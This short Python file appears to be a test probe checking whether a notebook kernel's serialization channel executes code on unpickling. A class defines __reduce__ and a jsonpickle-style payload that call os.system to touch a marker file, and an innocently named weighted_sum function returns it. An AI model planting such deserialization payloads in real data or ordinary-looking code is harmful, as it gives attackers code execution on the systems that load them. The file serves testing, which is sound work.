"""
what = "returns an object that, unpickled, would run a program"
goal = "leave something"
success = "left"
control = "not run: nothing in a kernel unpickles; what is asked is whether the channel does"
"""

# %% weighted_sum
import os
from pathlib import Path


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/" + {MARK},)

    __reduce_ex__ = lambda self, version: self.__reduce__()

    def __json__(self):
        return {"py/reduce": [{"py/function": "os.system"}, "touch /tmp/" + {MARK}]}


def weighted_sum(w, x, b):
    return Bomb()


# %% gates
gates = {"AND": Bomb(), "py/object": "os.system"}
